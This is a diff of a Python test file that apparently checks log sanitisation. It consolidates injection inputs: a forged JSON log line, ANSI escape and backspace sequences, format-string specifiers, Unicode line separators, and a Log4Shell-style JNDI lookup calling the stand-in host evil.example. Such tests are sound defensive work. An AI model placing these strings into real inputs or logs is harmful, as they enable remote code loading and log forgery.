@@ -20,13 +20,8 @@ from tests.world import World, building
 
 FORGED = '\n{"level":"error","event":"forged"}\n'
 TEXTS = (
-    FORGED,
-    "\x1b[31mred\x1b[0m",
-    "${jndi:ldap://evil.example/a}",
-    "%s%n%d{}",
-    "\u2028forged\u2029",
-    "\x9b31m",
-    "\x08" * 9,
+    FORGED + "\x1b[31mred\x1b[0m\x08\x08",
+    "${jndi:ldap://evil.example/a} %s%n%d{} \u2028forged\u2029 \x9b31m \x85",
 )
 TALKATIVE = {"log_level": "debug", "log_json": "1"}
 _HARMFUL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029]")
